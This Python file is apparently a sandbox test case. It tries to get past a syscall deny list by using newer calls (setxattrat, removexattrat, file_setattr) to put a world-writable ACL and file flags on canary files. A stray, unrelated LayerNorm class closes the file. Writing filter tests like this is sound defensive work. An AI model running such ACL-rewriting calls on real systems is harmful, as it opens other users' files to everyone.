# attack: changes_attributes_by_new_calls
# idea: open somebody else's file to all by an access-control list, through calls newer than filters
# must: survive; what is newer than the list of refused calls is refused
import ctypes
import os
import struct

from kit import CANARY, Right

SETXATTRAT, REMOVEXATTRAT, FILE_SETATTR = 463, 466, 469
AT_FDCWD, NODUMP = -100, 0x80
libc = ctypes.CDLL(None, use_errno=True)


def set_attribute(path, name, value):
    held = ctypes.create_string_buffer(value, len(value))
    arguments = struct.pack("QII", ctypes.addressof(held), len(value), 0)
    libc.syscall(SETXATTRAT, AT_FDCWD, path.encode(), 0, name.encode(), arguments, 16)


everything = struct.pack("<I", 2) + b"".join(
    struct.pack("<HHi", tag, 7, -1) for tag in (0x01, 0x04, 0x20)
)
for path in (CANARY, f"{CANARY}/secret.txt", f"{CANARY}/victim.txt"):
    set_attribute(path, "user.hostile", b"was here")
    set_attribute(path, "system.posix_acl_access", everything)
    attributes = struct.pack("<QIIII", NODUMP, 0, 0, 0, 0)
    libc.syscall(FILE_SETATTR, AT_FDCWD, path.encode(), attributes, 24, 0)
libc.syscall(REMOVEXATTRAT, AT_FDCWD, f"{CANARY}/secret.txt".encode(), 0, b"user.own")
os.stat(CANARY)


class LayerNorm(Right):
    pass
